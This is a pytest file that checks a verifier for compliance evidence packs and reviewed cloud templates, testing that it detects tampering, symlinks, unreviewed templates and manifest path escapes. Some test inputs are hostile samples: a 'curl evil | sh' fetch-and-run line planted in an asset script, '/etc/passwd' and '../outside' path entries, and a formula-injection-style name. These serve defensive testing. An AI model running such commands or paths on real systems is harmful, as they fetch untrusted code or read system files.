"""`verify.py`, run as a reviewer runs it: in a process of its own that sees the standard library alone."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from emr_platform.assembly import load
from emr_platform.review import _assets as assets_module
from emr_platform.review import gather, only
from emr_platform.review.pack import WRITERS, write_pack
from emr_platform.review.pack import verify as verify_module
from emr_platform.review.pack.verify import ALWAYS
from scripts.setup import ROOT
from tests.review.pack.samples import DAY, REGISTER, evidence, write, write_assembly

pytestmark = pytest.mark.long

Ran = subprocess.CompletedProcess[str]


def test_it_runs_on_any_python_that_a_reviewer_has() -> None:
    ast.parse(
        (ROOT / "emr_platform" / "review" / "pack" / "verify.py").read_text(encoding="utf-8"), feature_version=(3, 8)
    )


def verify(pack: Path, *arguments: str) -> Ran:
    # -I: neither the environment nor the folder of this project; -S: no installed packages.
    command = [sys.executable, "-I", "-S", str(pack / "verify.py"), *arguments]
    return subprocess.run(command, capture_output=True, text=True, check=False, timeout=60)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with templates as `in` and their pack as `pack`, which nobody changes."""
    folder = tmp_path_factory.mktemp("written")
    write_pack(evidence(folder / "in", REGISTER), folder / "pack")
    return folder


@pytest.fixture
def pack(written: Path, tmp_path: Path) -> Path:
    """A copy of the pack, beside one of its templates."""
    return copied(written, tmp_path)


def copied(written: Path, folder: Path) -> Path:
    shutil.copytree(written, folder, dirs_exist_ok=True)
    return folder / "pack"


def test_a_pack_as_it_was_written_is_right(pack: Path) -> None:
    ran = verify(pack)
    assert (ran.returncode, ran.stderr) == (0, "")
    digest, verdict = ran.stdout.splitlines()
    assert digest == f"MANIFEST.json  sha256 {hashlib.sha256((pack / 'MANIFEST.json').read_bytes()).hexdigest()}"
    assert verdict.endswith(" files, 2 inputs, as of 2026-02-01: everything is as it was written")


def edit(change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
    """Changes evidence.json, and its hash in MANIFEST.json, as somebody would who hides it."""

    def apply(pack: Path) -> None:
        read = json.loads((pack / "evidence.json").read_text(encoding="utf-8"))
        change(read)
        data = json.dumps(read).encode()
        (pack / "evidence.json").write_bytes(data)
        manifest = json.loads((pack / "MANIFEST.json").read_text(encoding="utf-8"))
        manifest["files"]["evidence.json"] = hashlib.sha256(data).hexdigest()
        (pack / "MANIFEST.json").write_text(json.dumps(manifest), encoding="utf-8")

    return apply


def a_fail_becomes_a_pass(read: dict[str, Any]) -> None:
    next(one for one in read["results"] if one["status"] == "EXCEPTED")["status"] = "PASS"


def a_control_vanishes(read: dict[str, Any]) -> None:
    for one in [one for one in read["results"] if one["control"] == "ASM-01"]:
        read["results"].remove(one)
        read["counts"][one["severity"]][one["status"]] -= 1


def a_control_is_made_up(read: dict[str, Any]) -> None:
    read["controls"] = [one for one in read["controls"] if one["id"] != "ASM-01"]


def another_template(read: dict[str, Any]) -> None:
    read["inputs"][0]["sha256"] = "0" * 64


def a_template_without_a_hash(read: dict[str, Any]) -> None:
    next(one for one in read["results"] if one["template"])["template"] = "other.json"


def another_day(read: dict[str, Any]) -> None:
    read["as_of"] = "2026-01-01"


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (lambda pack: (pack / "evidence.csv").unlink(), "evidence.csv: is missing"),
        (
            lambda pack: (pack / "evidence.csv").write_text("control\r\n", encoding="utf-8"),
            "evidence.csv: was changed: its hash is not that of MANIFEST.json",
        ),
        (
            lambda pack: (pack / "oscal" / "more.txt").write_text("more", encoding="utf-8"),
            "oscal/more.txt: is not named in MANIFEST.json",
        ),
        (edit(a_fail_becomes_a_pass), "evidence.json: its counts are not those of its results"),
        (edit(a_control_vanishes), "evidence.json: there is no result of ASM-01"),
        (edit(a_control_is_made_up), "evidence.json: there are results of ASM-01, which is no control of it"),
        (edit(another_template), "evidence.json: its inputs are not those of MANIFEST.json"),
        (edit(a_template_without_a_hash), "evidence.json: there is no hash of other.json, which results are about"),
        (edit(another_day), "evidence.json: its day or versions are not those of MANIFEST.json"),
        (edit(lambda read: read.pop("results")), "evidence.json: cannot be read: 'results'"),
    ],
)
def test_what_was_changed_is_found(pack: Path, spoil: Callable[[Path], object], said: str) -> None:
    spoil(pack)
    ran = verify(pack)
    assert (ran.returncode, ran.stderr) == (1, "")
    assert f"WRONG  {said}" in ran.stdout.splitlines()
    assert ran.stdout.splitlines()[-1].endswith(" wrong")


def test_a_manifest_is_held_to_a_hash_that_was_kept_elsewhere(pack: Path) -> None:
    kept = hashlib.sha256((pack / "MANIFEST.json").read_bytes()).hexdigest()
    assert verify(pack, "--manifest-sha256", kept.upper()).returncode == 0
    edit(lambda read: read["results"].reverse())(pack)
    assert verify(pack).returncode == 0
    ran = verify(pack, "--manifest-sha256", kept)
    assert ran.returncode == 1
    assert f"not '{kept}'" in ran.stdout


@pytest.mark.parametrize("kept", ["", " ", "3f7ca92a"])
def test_a_hash_that_was_lost_is_none_that_fits(pack: Path, kept: str) -> None:
    ran = verify(pack, "--manifest-sha256", kept)
    assert (ran.returncode, ran.stderr) == (1, "")
    assert f"not '{kept}'" in ran.stdout


def linked(pack: Path) -> None:
    (pack / "index.html").rename(pack.parent / "index.html")
    (pack / "index.html").symlink_to("../index.html")


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (linked, "index.html: is a link; what it leads to may change without the pack"),
        (lambda pack: (pack / "more").symlink_to("/"), "more: is a link; what it leads to may change without the pack"),
        (lambda pack: (pack / "x").symlink_to("gone"), "x: is a link; what it leads to may change without the pack"),
        (lambda pack: os.mkfifo(pack / "pipe"), "pipe: is not named in MANIFEST.json"),
    ],
)
def test_what_is_no_file_of_the_pack_is_found(pack: Path, spoil: Callable[[Path], object], said: str) -> None:
    spoil(pack)
    ran = verify(pack)
    assert (ran.returncode, ran.stderr) == (1, "")
    assert [line for line in ran.stdout.splitlines() if line.startswith("WRONG")] == [f"WRONG  {said}"]


def edit_manifest(pack: Path, change: Callable[[dict[str, Any]], object]) -> None:
    manifest = json.loads((pack / "MANIFEST.json").read_text(encoding="utf-8"))
    change(manifest)
    (pack / "MANIFEST.json").write_text(json.dumps(manifest), encoding="utf-8")


def test_a_pack_without_a_file_that_every_pack_has_is_wrong(pack: Path) -> None:
    assert set(ALWAYS) == {*WRITERS, "verify.py"} - {"oscal/poam.json"}
    (pack / "findings.sarif").unlink()
    edit_manifest(pack, lambda manifest: manifest["files"].pop("findings.sarif"))
    ran = verify(pack)
    assert "WRONG  findings.sarif: is not named in MANIFEST.json, and every pack has it" in ran.stdout.splitlines()


@pytest.mark.parametrize("name", ["../outside", "/etc/passwd"])
def test_a_manifest_names_files_of_its_folder(pack: Path, name: str) -> None:
    (pack.parent / "outside").write_text("x", encoding="utf-8")
    edit_manifest(pack, lambda manifest: manifest["files"].update({name: "0" * 64}))
    assert f"WRONG  {name}: is no name of a file in a pack" in verify(pack).stdout.splitlines()


@pytest.mark.parametrize(
    "change",
    [
        {"files": []}, {"files": None}, {"files": {"a": 1}}, {"inputs": {}}, {"inputs": [1]}, {"inputs": [{}]},
        {"inputs": [{"file": "a", "kind": "template", "sha256": None}]},
    ],
)  # fmt: skip
def test_a_manifest_of_another_shape_is_no_packs(pack: Path, change: dict[str, Any]) -> None:
    edit_manifest(pack, lambda manifest: manifest.update(change))
    ran = verify(pack, "--templates", str(pack))
    assert (ran.returncode, ran.stdout) == (2, "")
    assert "are not written as a pack's are" in ran.stderr


def test_templates_are_held_to_their_hashes(pack: Path, tmp_path: Path) -> None:
    """Wherever they are: what was reviewed is what is about to be deployed."""
    elsewhere = tmp_path / "checkout" / "cdk.out"
    elsewhere.mkdir(parents=True)
    (tmp_path / "in" / "jobs.template.json").rename(elsewhere / "jobs.template.json")
    ran = verify(pack, "--templates", str(elsewhere))
    assert (ran.returncode, ran.stderr) == (0, "")
    with (elsewhere / "jobs.template.json").open("a", encoding="utf-8") as file:
        file.write("\n")
    ran = verify(pack, "--templates", str(elsewhere))
    assert ran.returncode == 1
    assert "jobs.template.json is another than was reviewed" in ran.stdout
    ran = verify(pack, "--templates", str(tmp_path / "pack"))
    assert ran.returncode == 1
    assert f"is not below {tmp_path / 'pack'}" in ran.stdout


def with_another_template(folder: Path) -> None:
    text = (folder / "manifest.json").read_text(encoding="utf-8")
    write(folder, name="evil")
    (folder / "manifest.json").write_text(text.replace("emr-dev-jobs.template", "evil.template"), encoding="utf-8")


def without_protection(folder: Path) -> None:
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["artifacts"]["emr-dev-jobs"]["properties"]["terminationProtection"] = False
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (
            with_another_template,
            ["manifest.json is another than was reviewed", "evil.template.json: is a template"],
        ),
        (without_protection, ["manifest.json is another than was reviewed"]),
        (lambda folder: (folder / "manifest.json").unlink(), ["in/manifest.json: is not below"]),
        (
            lambda folder: write(folder, name="unnamed"),
            ["manifest.json, which was, does not name it: another synthesis left it there"],
        ),
    ],
)
def test_a_cloud_assembly_is_held_to_its_manifest(
    tmp_path: Path, spoil: Callable[[Path], object], said: list[str]
) -> None:
    """It says which templates are deployed, where to, and with what protection."""
    folder = write_assembly(tmp_path / "in", "dev")
    write_pack(gather(load([folder]), as_of=DAY), tmp_path / "pack")
    ran = verify(tmp_path / "pack", "--templates", str(folder))
    assert (ran.returncode, ran.stderr) == (0, "")
    spoil(folder)
    ran = verify(tmp_path / "pack", "--templates", str(folder))
    assert ran.returncode == 1
    wrong = [line for line in ran.stdout.splitlines() if line.startswith("WRONG")]
    assert len(wrong) == len(said)
    assert all(words in line for words, line in zip(said, wrong, strict=True))


@pytest.mark.parametrize("name", ["nosuch", "pack/index.html"])
def test_templates_are_in_a_folder(pack: Path, tmp_path: Path, name: str) -> None:
    ran = verify(pack, "--templates", str(tmp_path / name))
    assert (ran.returncode, ran.stdout) == (2, "")
    assert ran.stderr == f"{tmp_path / name}: is no folder; --templates takes the one that was reviewed\n"


@pytest.mark.parametrize(("spoilt", "code"), [(False, 0), (True, 1)])
def test_who_reads_only_a_part_gets_the_exit_code_all_the_same(pack: Path, spoilt: bool, code: int) -> None:
    if spoilt:
        (pack / "index.html").write_text("another", encoding="utf-8")
    reading, writing = os.pipe()
    os.close(reading)
    command = [sys.executable, "-I", "-S", str(pack / "verify.py")]
    try:
        ran = subprocess.run(command, stdout=writing, stderr=subprocess.PIPE, check=False, timeout=60)
    finally:
        os.close(writing)
    assert (ran.returncode, ran.stderr) == (code, b"")


def test_names_that_are_no_text_are_told(pack: Path) -> None:
    Path(os.fsdecode(os.fsencode(pack) + b"/\xff.txt")).write_text("", encoding="utf-8")
    ran = verify(pack)
    assert (ran.returncode, ran.stderr) == (1, "")
    assert "WRONG  \\udcff.txt: is not named in MANIFEST.json" in ran.stdout


def test_templates_that_were_not_reviewed_are_found(pack: Path, tmp_path: Path) -> None:
    inner = tmp_path / "in" / "more"
    write_assembly(inner / "assembly-prod", "prod")
    for name in ("notes.json", "values.yaml"):
        (inner / name).write_text("{}", encoding="utf-8")
    write(inner / ".git")
    write(inner, name="evil")
    ran = verify(pack, "--templates", str(tmp_path / "in"))
    assert (ran.returncode, ran.stderr) == (1, "")
    assert [line for line in ran.stdout.splitlines() if line.startswith("WRONG")] == [
        f"WRONG  {inner / name}: is a template that was not reviewed"
        for name in ("assembly-prod/emr-prod-jobs.template.json", "evil.template.json")
    ]


@pytest.mark.parametrize(
    "text",
    [
        "{Resources: {A: {Type: T}}}",
        "--- {Resources: {A: {Type: T}}}",
        "? Resources\n: {A: {Type: T}}",
        "Resources:\n  <<: *more\n",
        "{'Resources' : {A: {Type: T}}}",
        "Resources: {A: {Type: T}}".encode("utf-16"),
    ],
)
def test_a_template_is_found_however_it_is_written(pack: Path, tmp_path: Path, text: str | bytes) -> None:
    (tmp_path / "in" / "evil.yaml").write_bytes(text if isinstance(text, bytes) else text.encode())
    wrong = [line for line in verify(pack, "--templates", str(tmp_path / "in")).stdout.splitlines() if "WRONG" in line]
    assert wrong == [f"WRONG  {tmp_path / 'in' / 'evil.yaml'}: is a template that was not reviewed"]


def test_a_link_to_templates_elsewhere_is_found(pack: Path, tmp_path: Path) -> None:
    (tmp_path / "in" / "here").symlink_to(".")
    assert verify(pack, "--templates", str(tmp_path / "in")).returncode == 0
    (tmp_path / "in" / "there").symlink_to("..")
    ran = verify(pack, "--templates", str(tmp_path / "in"))
    assert f"WRONG  {tmp_path / 'in' / 'there'}: is a link to a folder elsewhere, which was not reviewed" in ran.stdout


def with_assets(folder: Path) -> Path:
    """A cloud assembly with a nested stack, a script and the folder of a function."""
    write_assembly(folder, "dev")
    nested = {"Resources": {"N": {"Type": "AWS::CloudFormation::Stack", "Metadata": {"aws:asset:path": "n.json"}}}}
    (folder / "emr-dev-jobs.template.json").write_text(json.dumps(nested), encoding="utf-8")
    (folder / "n.json").write_text('{"Resources": {}}', encoding="utf-8")
    (folder / "asset.1").mkdir()
    (folder / "asset.1" / "index.py").write_text("handler = print", encoding="utf-8")
    (folder / "asset.1" / "template.yaml").write_text("Resources: {A: {Type: T}}", encoding="utf-8")
    (folder / "asset.2.sh").write_text("true", encoding="utf-8")
    sources = {"1": "asset.1", "2": "asset.2.sh", "3": "n.json", "4": "gone.zip"}
    lists = {"files": {key: {"source": {"path": path}} for key, path in sources.items()}}
    (folder / "jobs.assets.json").write_text(json.dumps(lists), encoding="utf-8")
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["artifacts"]["jobs.assets"] = {
        "type": "cdk:asset-manifest", "properties": {"file": "jobs.assets.json"},
    }  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def written_with_assets(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """As `written`, of a cloud assembly with assets."""
    folder = tmp_path_factory.mktemp("assets")
    write_pack(gather(load([with_assets(folder / "in")]), as_of=DAY), folder / "pack")
    return folder


def with_a_copy(folder: Path) -> None:
    """Things as they were where a look for the last part of their name finds them first."""
    shutil.copytree(folder, folder / folder.name)
    (folder / "n.json").write_text('{"Resources": {"Evil": {"Type": "T"}}}', encoding="utf-8")


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (lambda folder: (folder / "asset.2.sh").write_text("curl evil | sh"), ["asset.2.sh is another than was"]),
        (lambda folder: (folder / "asset.1" / "index.py").write_text("evil"), ["asset.1 is another than was reviewed"]),
        (lambda folder: (folder / "asset.1" / "more.py").write_text("evil"), ["asset.1 is another than was reviewed"]),
        (lambda folder: (folder / "asset.2.sh").unlink(), ["in/asset.2.sh: is not below"]),
        (lambda folder: (folder / "jobs.assets.json").write_text("{}"), ["jobs.assets.json is another than was"]),
        (lambda folder: (folder / "o.assets.json").write_text("{}"), ["names assets that were not reviewed; "]),
        (lambda folder: (folder / "n.json").write_text("{}"), ["n.json is another than was reviewed"]),
    ],
)
def test_assets_are_held_to_what_was_reviewed(
    written_with_assets: Path, tmp_path: Path, spoil: Callable[[Path], object], said: list[str]
) -> None:
    pack, folder = copied(written_with_assets, tmp_path), tmp_path / "in"
    ran = verify(pack, "--templates", str(folder))
    assert (ran.returncode, ran.stderr) == (0, ""), ran.stdout
    spoil(folder)
    ran = verify(pack, "--templates", str(folder))
    assert ran.returncode == 1
    wrong = [line for line in ran.stdout.splitlines() if line.startswith("WRONG")]
    assert all(words in line for words, line in zip(said, wrong, strict=True))


def test_what_a_reviewed_assembly_names_is_not_called_left_over(tmp_path: Path) -> None:
    """Of an assembly with two environments, one was reviewed."""
    folder = write_assembly(tmp_path / "in", "dev", "prod")
    whole = load([folder])
    write_pack(gather(only(whole, folder, ["dev"]), as_of=DAY), tmp_path / "pack")
    ran = verify(tmp_path / "pack", "--templates", str(folder))
    assert f"WRONG  {folder / 'emr-prod-jobs.template.json'}: is a template that was not reviewed\n" in ran.stdout


def test_a_copy_of_what_was_reviewed_stands_for_nothing(written_with_assets: Path, tmp_path: Path) -> None:
    pack, folder = copied(written_with_assets, tmp_path), tmp_path / "in"
    with_a_copy(folder)
    ran = verify(pack, "--templates", str(folder))
    assert ran.returncode == 1
    assert f"{folder / 'n.json'}: is a template that was not reviewed" in ran.stdout


def test_one_list_of_results_is_held_to_the_other(tmp_path: Path) -> None:
    body = {"Resources": {"=1;=2\n@x": {"Type": "AWS::S3::Bucket"}, "B": {"Type": "AWS::S3::Bucket"}}}
    write_pack(evidence(tmp_path / "in", body=body), tmp_path / "pack")
    assert verify(tmp_path / "pack").returncode == 0
    edit(lambda read: next(one for one in read["results"] if one["status"] == "FAIL").update(status="PASS"))(
        tmp_path / "pack"
    )
    assert "evidence.csv: its results are not those of evidence.json" in verify(tmp_path / "pack").stdout


def test_folders_are_hashed_as_the_review_hashes_them(tmp_path: Path) -> None:
    for folder in (tmp_path / "a", tmp_path / "a" / "b"):
        folder.mkdir()
        (folder / "\u00e4.txt").write_text("x", encoding="utf-8")
    assert verify_module.digest(tmp_path / "a") == assets_module.digest(tmp_path / "a")
    assert verify_module.digest(tmp_path / "a") != verify_module.digest(tmp_path / "a" / "b")


@pytest.mark.parametrize("text", [None, "no json", "[]", "{}"])
def test_what_is_no_pack_is_refused(pack: Path, tmp_path: Path, text: str | None) -> None:
    other = tmp_path / "other"
    other.mkdir()
    if text is not None:
        (other / "MANIFEST.json").write_text(text, encoding="utf-8")
    ran = verify(pack, str(other))
    assert (ran.returncode, ran.stdout) == (2, "")
    assert ran.stderr.startswith(f"{other}: no evidence pack: MANIFEST.json: ")
